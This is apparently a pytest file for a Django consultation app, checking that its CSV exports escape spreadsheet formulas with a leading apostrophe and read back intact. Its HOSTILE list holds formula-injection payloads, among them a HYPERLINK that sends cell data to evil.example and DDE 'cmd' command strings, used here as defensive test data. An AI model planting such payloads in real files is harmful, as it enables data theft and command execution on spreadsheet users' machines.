"""A public statement such as =HYPERLINK(...) reaches spreadsheets as text: every
CSV export (web download, CLI, the library writer) escapes formula-like cells
with a leading ' (OWASP), and reading Backchannel's own export gives the text back."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from backchannel.analysis import PolisComment, VoteTable, read_polis_export
from backchannel.analysis.polis_io import write_polis_export
from backchannel.consultations.services import statement_moderate, statement_propose
from tests.consultations.conftest import Open, cast_all, two_camps
from tests.web.conftest import as_role
from tests.world import World

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click for the minutes")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=already quoted by its author",
]


def _comment_cells(text: str) -> dict[int, str]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return {int(r["comment-id"]): r["comment-body"] for r in rows}


def _assert_defused(cells: dict[int, str], numbers: dict[str, int]) -> None:
    for text, number in numbers.items():
        cell = cells[number]
        assert cell.startswith("'"), (text, cell)
        assert cell == "'" + text


@pytest.fixture
def hostile(opened: Open, world: World) -> dict[str, int]:
    numbers = {}
    access = world.access("facilitator")
    for i, text in enumerate(HOSTILE):
        statement = statement_propose(
            consultation=opened.consultation, ballot_token=f"{i}" * 43, text=text
        )
        # Accepted: only statements shown to the public are exported.
        statement_moderate(access=access, statement=statement, status="accepted")
        numbers[str(statement.text)] = statement.number
    cast_all(opened, two_camps(4))
    return numbers


def test_the_web_download_escapes_every_formula(
    client: Client, opened: Open, hostile: dict[str, int], world: World, tmp_path: Path
) -> None:
    as_role(client, world, "facilitator")
    response = client.get(
        reverse("consultations:consultation-export", args=[opened.consultation.pk])
    )
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    _assert_defused(_comment_cells(archive.read("comments.csv").decode()), hostile)
    # Votes keep their -1: numbers are not formulas.
    votes = archive.read("votes.csv").decode()
    assert ",-1\r\n" in votes
    assert ",'-1" not in votes
    archive.extractall(tmp_path)
    texts = {c.comment_id: c.text for c in read_polis_export(tmp_path).comments}
    for original, number in hostile.items():
        assert texts[number] == original.strip()


def test_the_cli_export_escapes_every_formula_and_reads_back(
    opened: Open, hostile: dict[str, int], tmp_path: Path
) -> None:
    call_command(
        "consultation",
        "export",
        str(opened.consultation.pk),
        str(tmp_path),
        stdout=io.StringIO(),
    )
    text = (tmp_path / "comments.csv").read_bytes().decode()
    _assert_defused(_comment_cells(text), hostile)
    texts = {c.comment_id: c.text for c in read_polis_export(tmp_path).comments}
    for original, number in hostile.items():
        assert texts[number] == original.strip()


def test_the_library_writer_escapes_formulas_but_not_numbers(tmp_path: Path) -> None:
    comments = [
        PolisComment(comment_id=i + 1, text=text, moderated=1)
        for i, text in enumerate([*HOSTILE, "-1", "plain text", "- a bullet"])
    ]
    votes = VoteTable.from_records([(1, 1, -1), (2, 1, 1)])
    write_polis_export(tmp_path, votes, comments)
    cells = _comment_cells((tmp_path / "comments.csv").read_bytes().decode())
    for i, text in enumerate(HOSTILE):
        assert cells[i + 1] == "'" + text
    n = len(HOSTILE)
    assert (cells[n + 1], cells[n + 2], cells[n + 3]) == (
        "-1",
        "plain text",
        "'- a bullet",
    )
    back = {c.comment_id: c.text for c in read_polis_export(tmp_path).comments}
    # Escaped cells come back exactly (blanks included): the export round-trips.
    assert [back[i + 1] for i in range(n + 3)] == [
        *HOSTILE,
        "-1",
        "plain text",
        "- a bullet",
    ]
